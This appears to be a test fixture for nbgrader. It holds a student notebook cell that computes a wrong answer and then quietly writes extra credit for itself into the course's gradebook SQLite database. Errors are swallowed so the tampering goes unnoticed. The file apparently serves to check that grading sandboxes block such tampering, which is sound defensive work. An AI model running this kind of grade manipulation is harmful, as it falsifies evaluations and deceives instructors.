"""Gives itself points in nbgrader's database; success: more points than deserved."""

CELLS = {
    "square": """
import sqlite3

def square(x):
    return x * 0

try:
    book = sqlite3.connect("file:@COURSE@/gradebook.db?mode=rw", uri=True, timeout=5)
    with book:
        book.execute(
            "UPDATE grade SET extra_credit = 9 WHERE cell_id IN (SELECT id FROM base_cell"
            " WHERE name LIKE 'test_square%') AND notebook_id IN (SELECT sn.id FROM"
            " submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id"
            " WHERE sa.student_id = '@STUDENT@')"
        )
    book.close()
except sqlite3.Error:
    pass
"""
}
DESERVES = {"square": 0}
